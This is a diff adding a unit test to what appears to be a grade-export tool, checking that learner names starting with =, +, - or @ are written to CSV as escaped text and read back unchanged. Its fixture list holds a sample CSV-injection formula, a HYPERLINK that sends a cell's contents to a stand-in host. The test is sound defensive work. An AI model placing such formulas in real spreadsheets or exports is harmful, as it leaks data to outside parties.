@@ -1096,6 +1096,32 @@ def test_a_learner_whose_folder_name_changed_unicode_form_keeps_their_earlier_ro
         gradebook.read_earlier(tmp_path)
 
 
+FORMULA_NAMES = ['=HYPERLINK("http://example.invalid/?"&B2,"x")', "+1", "-rf", "@sum", "'=quoted already", "ann"]
+
+
+def test_a_learner_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back_as_it_was(tmp_path):
+    """A folder named =HYPERLINK(...) (a learner's name on the LMS, chosen by the learner) was written into
+    grades.csv as it is: a spreadsheet opening the file runs it as a formula (OWASP's CSV injection: it can send the
+    row's grades away), shows "+1" as 1 and "-rf" as #NAME?. Each cell that starts with =, +, - or @ is written
+    with a ' before it, which spreadsheets read as "this is text"; a name that already starts with ' and then one
+    of those gets one more, and the next ONLY= run reads every name back as the folder spells it."""
+    grades = {name: {"ex01": gradebook.Grade("ex01_perceptron_activations.py", 10, "-1 is not a reason")}
+              for name in FORMULA_NAMES}
+    gradebook.write(tmp_path, [find("ex01")], grades)
+    written = [row[0] for row in read_csv(tmp_path / "grades.csv")[1:]]
+    assert written == ['\'=HYPERLINK("http://example.invalid/?"&B2,"x")', "'+1", "'-rf", "'@sum",
+                       "''=quoted already", "ann"]
+    reasons = read_csv(tmp_path / "grades_reasons.csv")[1:]
+    assert [row[0] for row in reasons] == written and {row[4] for row in reasons} == {"'-1 is not a reason"}
+    earlier = gradebook.read_earlier(tmp_path)
+    assert list(earlier.grades) == FORMULA_NAMES
+    assert {grade["ex01"].reason for grade in earlier.grades.values()} == {"-1 is not a reason"}
+    # saved again by a spreadsheet that took the ' as its mark for text and left it out: the same names
+    (tmp_path / "grades.csv").write_text("learner,ex01,total\n+1,10,10\n-rf,10,10\n", encoding="utf-8")
+    (tmp_path / "grades_reasons.csv").unlink()
+    assert list(gradebook.read_earlier(tmp_path).grades) == ["+1", "-rf"]
+
+
 def test_the_only_merge_lists_learners_as_a_class_list_reads_whatever_the_case(tmp_path):
     """ONLY= merges today's rows with the earlier grades.csv's: alphabetically whatever the case (alice, bob, Carol,
     Dan), as the full grading does, not Python's order with every capital first (Carol, Dan, alice, bob)."""
